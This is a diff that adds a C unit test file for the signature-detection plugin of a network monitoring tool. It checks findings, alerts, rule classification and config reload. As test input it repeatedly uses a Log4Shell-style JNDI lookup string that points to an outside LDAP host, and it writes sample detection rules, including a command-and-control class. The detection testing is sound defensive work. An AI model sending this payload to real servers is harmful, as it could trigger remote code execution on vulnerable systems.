@@ -1,0 +1,152 @@
+/* test_signature.c - the plugin: a finding for the first match on a flow, an alert for each, foreign rules with care. */
+#include <mamori/net.h>
+#include <testhost.h>
+
+#include <netinet/in.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+extern const struct mmr_plugin mmr_plugin_signature;
+
+static void count_item(void *ctx, const void *item)
+{
+    assert_int_equal(((const struct mmr_alert *)item)->sid, 9000002);
+    ++*(unsigned *)ctx;
+}
+
+static void feed_uri(struct mmr_testhost *th, int i, struct mmr_flow *flow, const char *uri, uint64_t tx_id)
+{
+    struct mmr_frame frame = {.struct_size = sizeof frame, .time_ns = MMR_TH_START_NS, .index = 7, .input = "a.pcap"};
+    struct mmr_packet p = {.struct_size = sizeof p, .frame = &frame, .flow = flow, .ip_version = 4, .proto = IPPROTO_TCP};
+    const struct mmr_buffer bufs[] = {{"http.method", (const uint8_t *)"GET", 3}, {"http.uri", (const uint8_t *)uri, strlen(uri)}};
+    struct mmr_tx tx = {.struct_size = sizeof tx, .dir = MMR_TO_SERVER, .flow = flow, .packet = &p, .app = "http", .id = tx_id,
+                        .buffers = bufs, .n = 2};
+    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_TX, &tx), 1);
+}
+
+static struct mmr_flow a_flow(uint64_t id)
+{
+    struct mmr_flow f = {.struct_size = sizeof f, .ip_version = 4, .proto = IPPROTO_TCP, .tcp_state = MMR_TCP_ESTABLISHED,
+                         .zones = MMR_FLOW_SERVER_INSIDE, .id = id, .client_port = 40000, .server_port = 80, .app = "http"};
+    f.client = (struct mmr_addr){{[10] = 0xff, 0xff, 203, 0, 113, 9}};
+    f.server = (struct mmr_addr){{[10] = 0xff, 0xff, 192, 168, 1, 5}};
+    return f;
+}
+
+static void first_match_is_a_finding_and_every_match_an_alert(void **state)
+{
+    (void)state;
+    struct mmr_error err = {.struct_size = sizeof err};
+    struct mmr_testhost *th = mmr_testhost_new();
+    struct mmr_flow flow = a_flow(1), other = a_flow(2);
+    unsigned alerts = 0;
+    mmr_testhost_listen(th, MMR_TOPIC_ALERT, count_item, &alerts);
+    int i = mmr_testhost_add(th, &mmr_plugin_signature, NULL, &err);
+    assert_int_equal(i, 0);
+    feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 0);
+    feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 1);
+    feed_uri(th, i, &flow, "/index.html", 2);
+    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
+    assert_int_equal(alerts, 2);
+    feed_uri(th, i, &other, "/?x=${jndi:ldap://198.51.100.7/a}", 0);
+    assert_int_equal(mmr_testhost_count(th, "finding"), 2);
+    int n = mmr_testhost_find(th, "finding", 0);
+    assert_string_equal(mmr_testhost_text(th, n, "mamori.rule"), "sid:9000002");
+    assert_string_equal(mmr_testhost_text(th, n, "mamori.phase"), "attempt.inbound");
+    assert_string_equal(mmr_testhost_text(th, n, "mamori.direction"), "inbound");
+    assert_string_equal(mmr_testhost_text(th, n, "mamori.potential"), "high");
+    assert_string_equal(mmr_testhost_text(th, n, "src_endpoint.ip"), "203.0.113.9");
+    assert_string_equal(mmr_testhost_text(th, n, "dst_endpoint.ip"), "192.168.1.5");
+    assert_int_equal(mmr_testhost_int(th, n, "dst_endpoint.port", 0), 80);
+    assert_int_equal(mmr_testhost_int(th, n, "mamori.index", 0), 7);
+    assert_non_null(strstr(mmr_testhost_text(th, n, "message"), "${jndi:ldap://198.51.100.7/a}"));
+    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
+    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &other), 1);
+    assert_null(flow.slot[MMR_SLOT_SIGNATURE]);
+    mmr_testhost_free(th);
+}
+
+/* A file with these rules, removed by the caller. */
+static void write_rules(char *path, const char *text)
+{
+    int fd = mkstemp(path);
+    assert_true(fd >= 0);
+    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
+    assert_int_equal(close(fd), 0);
+}
+
+static void foreign_rules_get_their_meaning_from_class_and_severity(void **state)
+{
+    (void)state;
+    char path[] = "/tmp/mamori-rules-XXXXXX";
+    struct mmr_error err = {.struct_size = sizeof err};
+    write_rules(path, "alert http any any -> any any (msg:\"c2\"; http.uri; content:\"/c2\"; classtype:command-and-control; metadata:signature_severity Major; sid:1;)\n"
+                      "alert http any any -> any any (msg:\"policy\"; http.uri; content:\"/policy\"; classtype:policy-violation; sid:2;)\n"
+                      "alert http any any -> any any (msg:\"info\"; http.uri; content:\"/info\"; classtype:trojan-activity; metadata:signature_severity Informational; sid:3;)\n"
+                      "alert http any any -> any any (msg:\"off\"; http.uri; content:\"/off\"; classtype:trojan-activity; sid:4;)\n"
+                      "alert http any any -> any any (msg:\"half\"; http.uri; content:\"/half\"; no_such_word; sid:5;)\n");
+    const char *const cfg[] = {"rules", path, "pack", "false", "disable", "4", NULL};
+    struct mmr_testhost *th = mmr_testhost_new();
+    struct mmr_flow flow = a_flow(3);
+    int i = mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err);
+    assert_int_equal(unlink(path), 0);
+    assert_int_equal(i, 0);
+    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, NULL), 1); /* the rule left out is named */
+    feed_uri(th, i, &flow, "/c2/policy/info/off/half", 0);
+    assert_int_equal(mmr_testhost_count(th, "finding"), 3);
+    static const struct {
+        const char *rule, *phase, *potential;
+    } rows[] = {{"sid:1", "foothold.c2", "high"}, {"sid:2", "", "info"}, {"sid:3", "", "info"}};
+    for (size_t k = 0; k < 3; k++) {
+        int n = mmr_testhost_find_text(th, "finding", "mamori.rule", rows[k].rule);
+        assert_true(n >= 0);
+        assert_string_equal(mmr_testhost_text(th, n, "mamori.phase"), rows[k].phase);
+        assert_string_equal(mmr_testhost_text(th, n, "mamori.potential"), rows[k].potential);
+    }
+    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
+    mmr_testhost_free(th);
+}
+
+static void wrong_configuration_is_refused_and_reload_swaps_the_rules(void **state)
+{
+    (void)state;
+    char path[] = "/tmp/mamori-rules-XXXXXX";
+    struct mmr_error err = {.struct_size = sizeof err};
+    static const char *const bad[] = {"home_net", "192.0.2.0/99", NULL}, *const lost[] = {"rules", "/nowhere/a.rules", NULL};
+    struct mmr_testhost *th = mmr_testhost_new();
+    struct mmr_flow flow = a_flow(4);
+    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_signature, bad, &err), MMR_ECONFIG);
+    assert_non_null(strstr(err.text, "HOME_NET"));
+    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_signature, lost, &err), MMR_EIO);
+    write_rules(path, "alert http any any -> any any (http.uri; content:\"/new\"; classtype:trojan-activity; sid:6;)\n");
+    const char *const next[] = {"rules", path, "pack", "false", NULL};
+    int i = mmr_testhost_add(th, &mmr_plugin_signature, NULL, &err);
+    assert_true(i >= 0);
+    feed_uri(th, i, &flow, "/new", 0);
+    assert_int_equal(mmr_testhost_reload(th, i, lost, true, &err), MMR_EIO); /* the old rules go on */
+    feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 1);
+    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
+    assert_int_equal(mmr_testhost_reload(th, i, next, true, &err), 0);
+    assert_int_equal(unlink(path), 0);
+    feed_uri(th, i, &flow, "/new", 2);
+    assert_int_equal(mmr_testhost_count(th, "finding"), 2);
+    mmr_testhost_free(th); /* with the flow still alive: its state goes with the plugin */
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(first_match_is_a_finding_and_every_match_an_alert),
+        cmocka_unit_test(foreign_rules_get_their_meaning_from_class_and_severity),
+        cmocka_unit_test(wrong_configuration_is_refused_and_reload_swaps_the_rules),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
